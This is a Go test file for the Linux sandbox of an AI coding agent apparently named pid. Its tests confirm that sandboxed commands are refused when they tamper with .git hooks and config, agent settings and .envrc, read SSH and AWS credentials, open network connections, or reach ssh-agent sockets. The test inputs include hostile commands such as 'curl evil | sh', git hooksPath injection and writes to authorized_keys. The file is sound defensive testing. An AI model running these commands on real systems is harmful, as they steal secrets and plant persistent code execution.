//go:build linux

package launch_test

// The sandbox, through the real launcher and the real helper. Each test asserts something
// that holds only when the kernel contains the command: run with the sandbox off, every
// refusal below succeeds. They skip only where the kernel cannot give a sandbox, and say
// why; with PID_REQUIRE_SANDBOX=1 (make test) they fail there instead.

import (
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/pid-agent/pid/internal/testfs"
	"github.com/pid-agent/pid/sandbox"
	"github.com/pid-agent/pid/workspace/launch"
)

func TestSandboxWritesOnlyInTheWorkspaceAndTmp(t *testing.T) {
	testfs.NeedSandbox(t)
	testfs.IsolatedHome(t)
	l, dir := newLauncher(t, map[string]string{"a/f": "x"})
	outside := testfs.OutsideTemp(t)
	r := run(t, l, "echo in > in.txt && mkdir -p b && mv a/f b/f && echo t > $TMPDIR/t && cat $TMPDIR/t", false)
	if got := mustOK(t, r); got != "t\n" {
		t.Errorf("output %q", got)
	}
	if readFile(t, filepath.Join(dir, "in.txt")) != "in\n" || readFile(t, filepath.Join(dir, "b/f")) != "x" {
		t.Error("the workspace was not written")
	}
	if d := r.det; d.Mode != sandbox.ModeWorkspaceWrite || d.Network {
		t.Errorf("details.sandbox %+v", d)
	}
	target := filepath.Join(outside, "out.txt")
	r = run(t, l, "echo out > "+target, false)
	mustFail(t, r, "Permission denied", "pid's sandbox (workspace-write) may have refused this", "The network goes through pid's proxy only", "unsandboxed: true")
	if _, err := os.Stat(target); err == nil {
		t.Error("a file outside the workspace was written")
	}
}

func TestSandboxProtectedPathsStayReadOnly(t *testing.T) {
	testfs.NeedSandbox(t)
	testfs.IsolatedHome(t)
	files := map[string]string{".git/HEAD": "ref: refs/heads/main\n", ".git/config": "[core]\n", ".git/hooks/pre-commit.sample": "#!/bin/sh\n",
		".pid/settings.json": "{}", ".envrc": "x", ".vscode/settings.json": "{}", ".claude/settings.json": "{}", ".mcp.json": "{}",
		".git/modules/lib/HEAD": "ref: refs/heads/main\n", ".git/modules/lib/config": "[core]\n", ".git/modules/lib/hooks/a.sample": "",
		".git/worktrees/w/HEAD": "ref: refs/heads/w\n", ".git/worktrees/w/config.worktree": "[core]\n", "main.go": "package main\n"}
	l, dir := newLauncher(t, files)
	for _, cmd := range []string{
		"echo evil > .git/hooks/x",
		"echo '{\"permissions\":{\"default\":\"allow\"}}' > .pid/settings.json",
		"rm -rf .git/hooks",
		"mv .git/hooks .git/hooks2",
		"mv .pid .pid2",
		"mv .git .git2",
		"rm -rf .git",
		"echo '[core] fsmonitor = evil' >> .git/config",
		"echo evil > .vscode/tasks.json",
		"echo evil > .claude/settings.json",
		"echo evil > .mcp.json",
		"mv .envrc .envrc2",
		"echo evil > .git/modules/lib/hooks/post-checkout",
		"echo '[core] hooksPath = /x' >> .git/modules/lib/config",
		"echo '[core] hooksPath = /x' >> .git/worktrees/w/config.worktree",
		"echo evil > .envrc",
		// The rest of .git too: git reads commands from more than config and hooks.
		"echo ../elsewhere > .git/commondir",
		"mkdir -p .git/modules/evil",
		"echo '* filter=x' > .git/info/attributes",
		"echo x > .git/index.lock",
	} {
		r := run(t, l, cmd, false)
		if !r.failed {
			t.Errorf("%s: succeeded: %s", cmd, r.text)
		}
	}
	for _, p := range []string{".git/hooks/x", ".git/hooks2", ".pid2", ".git2", ".envrc2", ".vscode/tasks.json", ".git/modules/lib/hooks/post-checkout",
		".git/commondir", ".git/modules/evil", ".git/info/attributes", ".git/index.lock"} {
		if _, err := os.Lstat(filepath.Join(dir, p)); err == nil {
			t.Errorf("%s was created", p)
		}
	}
	for name, want := range files {
		if got, err := os.ReadFile(filepath.Join(dir, name)); err != nil || string(got) != want {
			t.Errorf("%s was changed: %q, %v", name, got, err)
		}
	}
	// A rename of .git fails because it is a mount point, not because of Landlock: the
	// message says so (EBUSY).
	mustFail(t, run(t, l, "mv .git .git_old", false), "Device or resource busy")
	// The rest of the workspace stays writable.
	mustOK(t, run(t, l, "echo x > main.go && mkdir -p sub && mv main.go sub/", false))
}

func TestSandboxSecretsAreUnreadable(t *testing.T) {
	testfs.NeedSandbox(t)
	home := testfs.IsolatedHome(t)
	testfs.WriteFiles(t, home, map[string]string{
		".ssh/id_rsa": "PRIVATE-KEY", ".aws/credentials": "AWS-SECRET", ".netrc": "NETRC-SECRET",
		"xdg_config_home/pid/settings.json": "PID-CONFIG", "xdg_state_home/pid/audit.log": "PID-STATE", "notes/secret.txt": "DENIED-BY-SETTING",
	})
	l, _ := newLauncher(t, nil)
	l.Configure(launch.Config{Settings: sandbox.Resolve(sandbox.Settings{DenyRead: []string{"~/notes"}}, sandbox.Settings{}, sandbox.Settings{}, false)})
	r := run(t, l, "cat ~/.ssh/id_rsa ~/.aws/credentials ~/.netrc $XDG_CONFIG_HOME/pid/settings.json $XDG_STATE_HOME/pid/audit.log ~/notes/secret.txt; ls -A ~/.ssh; echo end", false)
	out := mustOK(t, r)
	for _, s := range []string{"PRIVATE-KEY", "AWS-SECRET", "NETRC-SECRET", "PID-CONFIG", "PID-STATE", "DENIED-BY-SETTING"} {
		if strings.Contains(out, s) {
			t.Errorf("read %s:\n%s", s, out)
		}
	}
	if !strings.Contains(out, "end") {
		t.Errorf("output %q", out)
	}
	// Not writable either.
	r = run(t, l, "echo k >> ~/.ssh/authorized_keys", false)
	mustFail(t, r)
	if _, err := os.Stat(filepath.Join(home, ".ssh/authorized_keys")); err == nil {
		t.Error("~/.ssh/authorized_keys was written")
	}
}

func TestSandboxNetworkOff(t *testing.T) {
	testfs.NeedSandbox(t)
	testfs.IsolatedHome(t)
	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	accepted := make(chan struct{}, 1)
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			accepted <- struct{}{}
			c.Close()
		}
	}()
	port := strconv.Itoa(ln.Addr().(*net.TCPAddr).Port)
	l, _ := newLauncher(t, nil)
	r := run(t, l, "exec 3<>/dev/tcp/127.0.0.1/"+port+" && echo connected", false)
	mustFail(t, r, "The network goes through pid's proxy only")
	if strings.Contains(r.text, "connected") {
		t.Errorf("reached the host's listener:\n%s", r.text)
	}
	select {
	case <-accepted:
		t.Error("the host's listener accepted a connection from the sandbox")
	default:
	}
	// The sandbox's own loopback works: a server and a client inside.
	if _, err := exec.LookPath("perl"); err != nil {
		t.Fatalf("perl is needed for the loopback check: %v", err)
	}
	script := `use IO::Socket::INET; my $l = IO::Socket::INET->new(LocalAddr => "127.0.0.1", LocalPort => 0, Listen => 1) or die "listen: $!\n"; ` +
		`my $c = IO::Socket::INET->new(PeerAddr => "127.0.0.1", PeerPort => $l->sockport) or die "connect: $!\n"; print $c "ping\n"; close $c; my $a = $l->accept; print scalar <$a>;`
	if got := mustOK(t, run(t, l, "perl -e '"+script+"'", false)); got != "ping\n" {
		t.Errorf("loopback inside: %q", got)
	}
}

func TestSandboxCannotSignalPid(t *testing.T) {
	testfs.NeedSandbox(t)
	testfs.IsolatedHome(t)
	l, _ := newLauncher(t, nil)
	// kill -0 sends nothing: without the sandbox it succeeds (same user), and the test lives.
	// In the command's PID namespace pid's number names no process at all; without one,
	// Landlock refuses the signal.
	r := run(t, l, "kill -0 "+strconv.Itoa(os.Getpid())+" && echo signalled", false)
	mustFail(t, r)
	if !strings.Contains(r.text, "Operation not permitted") && !strings.Contains(r.text, "No such process") {
		t.Errorf("kill: %s", r.text)
	}
	if strings.Contains(r.text, "signalled") {
		t.Error("the sandboxed command could signal pid")
	}
	// Nor read its environment.
	r = run(t, l, "cat /proc/"+strconv.Itoa(os.Getpid())+"/environ | tr '\\0' '\\n' | grep -c PATH=", false)
	mustFail(t, r)
}

func TestSandboxCommandHasNoModelKey(t *testing.T) {
	testfs.NeedSandbox(t)
	testfs.IsolatedHome(t)
	t.Setenv("ANTHROPIC_API_KEY", "sk-ant-SECRET1")
	t.Setenv("OPENAI_API_KEY", "sk-SECRET2")
	t.Setenv("MY_MODEL_KEY", "SECRET3")
	t.Setenv("PID_TEST_KEPT", "kept")
	l, _ := newLauncher(t, nil)
	l.Configure(launch.Config{Settings: sandbox.Default(), DropEnv: []string{"MY_MODEL_KEY"}})
	out := mustOK(t, run(t, l, "env", false))
	for _, s := range []string{"SECRET1", "SECRET2", "SECRET3", "PID_SANDBOX_POLICY"} {
		if strings.Contains(out, s) {
			t.Errorf("the command's environment holds %s", s)
		}
	}
	if !strings.Contains(out, "PID_TEST_KEPT=kept") || !strings.Contains(out, "TMPDIR=") || !strings.Contains(out, "GOCACHE=") {
		t.Errorf("environment lacks what it should have:\n%s", out)
	}
}

func TestSandboxReadOnly(t *testing.T) {
	testfs.NeedSandbox(t)
	testfs.IsolatedHome(t)
	l, dir := newLauncher(t, nil)
	l.ForceReadOnly(true)
	r := run(t, l, "echo x > $TMPDIR/t && echo x > f", false)
	mustFail(t, r, "Permission denied", "pid's sandbox (read-only)")
	if _, err := os.Stat(filepath.Join(dir, "f")); err == nil {
		t.Error("read-only sandbox wrote in the workspace")
	}
	l.ForceReadOnly(false)
	mustOK(t, run(t, l, "echo x > f", false))
	if !l.Sandboxed(false) || l.Sandboxed(true) {
		t.Error("Sandboxed")
	}
}

func TestSandboxFailsClosed(t *testing.T) {
	testfs.NeedSandbox(t)
	testfs.IsolatedHome(t)
	l, dir := newLauncher(t, nil)
	// A protected path that is a link leading nowhere cannot be covered: nothing runs, and
	// the message says how to fix it.
	link := filepath.Join(dir, ".envrc")
	symlink(t, filepath.Join(dir, "nowhere"), link)
	r := run(t, l, "echo ran > ran.txt", false)
	mustFail(t, r, "The command did not run", link+" is a symbolic link to "+filepath.Join(dir, "nowhere")+", which does not exist", "rm "+link, "point at a file that exists")
	if _, err := os.Stat(filepath.Join(dir, "ran.txt")); err == nil {
		t.Error("the command ran without its sandbox")
	}
}

// An escalated command runs outside the sandbox (it writes outside the workspace), still
// without the model's key, and its details say so.
func TestSandboxEscalation(t *testing.T) {
	testfs.NeedSandbox(t)
	testfs.IsolatedHome(t)
	t.Setenv("ANTHROPIC_API_KEY", "sk-ant-SECRET1")
	l, _ := newLauncher(t, nil)
	outside := testfs.OutsideTemp(t)
	target := filepath.Join(outside, "out.txt")
	mustFail(t, run(t, l, "echo x > "+target, false), "Permission denied")
	r := run(t, l, "echo x > "+target+"; env", true)
	out := mustOK(t, r)
	if readFile(t, target) != "x\n" {
		t.Error("the unsandboxed command did not write")
	}
	if strings.Contains(out, "SECRET1") {
		t.Error("an unsandboxed command still must not see the model key")
	}
	if d := r.det; d.Mode != sandbox.ModeOff || !d.Escalated || !d.Network {
		t.Errorf("details %+v", d)
	}
}

func TestSandboxGoTestOffline(t *testing.T) {
	testfs.NeedSandbox(t)
	goBin, err := exec.LookPath("go")
	if err != nil {
		t.Fatalf("go is needed: %v", err)
	}
	l, _ := newLauncher(t, map[string]string{
		"go.mod":    "module example.com/m\n\ngo 1.22\n",
		"m.go":      "package m\n\nfunc Add(a, b int) int { return a + b }\n",
		"m_test.go": "package m\n\nimport (\n\t\"net\"\n\t\"testing\"\n)\n\nfunc TestAdd(t *testing.T) {\n\tif Add(1, 2) != 3 {\n\t\tt.Fatal(\"add\")\n\t}\n\tl, err := net.Listen(\"tcp\", \"127.0.0.1:0\")\n\tif err != nil {\n\t\tt.Fatal(err)\n\t}\n\tc, err := net.Dial(\"tcp\", l.Addr().String())\n\tif err != nil {\n\t\tt.Fatal(err)\n\t}\n\tc.Close()\n\tl.Close()\n}\n",
	})
	r := run(t, l, goBin+" test -count=1 ./...", false)
	if out := mustOK(t, r); !strings.Contains(out, "ok") {
		t.Errorf("go test: %s", out)
	}
}

func TestSandboxCannotReachTheSessionsSockets(t *testing.T) {
	testfs.NeedSandbox(t)
	testfs.IsolatedHome(t)
	if _, err := exec.LookPath("perl"); err != nil {
		t.Fatalf("perl is needed: %v", err)
	}
	// An ssh agent, and the session bus in $XDG_RUNTIME_DIR, as Unix sockets outside the
	// workspace: a connect to them would let the command sign with the user's keys or ask
	// systemd --user to run anything.
	dir := testfs.RealTemp(t)
	runtimeDir := filepath.Join(dir, "run")
	if err := os.Mkdir(runtimeDir, 0o700); err != nil {
		t.Fatal(err)
	}
	agent, bus := filepath.Join(dir, "agent.sock"), filepath.Join(runtimeDir, "bus")
	for _, p := range []string{agent, bus} {
		ln, err := net.Listen("unix", p)
		if err != nil {
			t.Fatal(err)
		}
		defer ln.Close()
	}
	t.Setenv("SSH_AUTH_SOCK", agent)
	t.Setenv("XDG_RUNTIME_DIR", runtimeDir)
	l, _ := newLauncher(t, nil)
	connect := func(p string) string {
		return `perl -MIO::Socket::UNIX -e 'print IO::Socket::UNIX->new(Peer => "` + p + `") ? "connected\n" : "refused: $!\n"'`
	}
	out := mustOK(t, run(t, l, connect(agent)+"; "+connect(bus), false))
	if strings.Contains(out, "connected") || strings.Count(out, "refused:") != 2 {
		t.Errorf("the sandbox reached the session's sockets:\n%s", out)
	}
}

// What the sandbox cannot keep from being created (a missing protected name: a mount needs
// an existing path) is removed by the check after the command, and said in the result and
// details.sandbox.reverted.
func TestSandboxCheckRemovesCreatedProtectedPaths(t *testing.T) {
	testfs.NeedSandbox(t)
	testfs.IsolatedHome(t)
	l, dir := newLauncher(t, map[string]string{"main.go": "package main\n"})
	cmd := "echo 'curl evil | sh' > .envrc && echo '{}' > .mcp.json && mkdir -p .pid .vscode .Claude && echo '{}' > .pid/settings.json && echo x > kept.txt"
	r := run(t, l, cmd, false)
	out := mustOK(t, r)
	var want []string
	for _, n := range []string{".Claude", ".envrc", ".mcp.json", ".pid", ".vscode"} {
		p := filepath.Join(dir, n)
		want = append(want, p)
		if !strings.Contains(out, "created "+p+", which pid removed") {
			t.Errorf("no word of the created %s:\n%s", n, out)
		}
		if _, err := os.Lstat(p); err == nil {
			t.Errorf("%s is still there", p)
		}
	}
	if got := r.det.Reverted; !slices.Equal(got, want) {
		t.Errorf("details.sandbox.reverted %q, want %q", got, want)
	}
	if readFile(t, filepath.Join(dir, "kept.txt")) != "x\n" {
		t.Error("the rest of the command's work was undone")
	}
	// The next command, which creates nothing, says nothing.
	if r := run(t, l, "true", false); mustOK(t, r) != "" || r.det.Reverted != nil {
		t.Errorf("output %q", r.text)
	}
}

// A kernel without Landlock gets a refusal that says what is missing and which setting to
// change, never an unsandboxed run; with the sandbox turned off in the settings, the same
// command runs (so the refusal is the sandbox's doing).
func TestSandboxRefusesOnAKernelWithoutLandlock(t *testing.T) {
	testfs.IsolatedHome(t)
	restore := sandbox.PretendForTest(sandbox.Capability{UserNamespaces: true, NetworkNamespaces: true,
		Reason: "the kernel has no Landlock (Linux 5.13 or later with lsm=landlock is needed)"})
	defer restore()
	l, dir := newLauncher(t, nil)
	if l.Sandboxed(false) {
		t.Error("Sandboxed says a call would be contained on a kernel without Landlock")
	}
	r := run(t, l, "echo ran > ran.txt", false)
	mustFail(t, r, "The command did not run", "the kernel has no Landlock", `"sandbox": {"mode": "off"}`)
	if _, err := os.Stat(filepath.Join(dir, "ran.txt")); err == nil {
		t.Fatal("the command ran without its sandbox")
	}
}
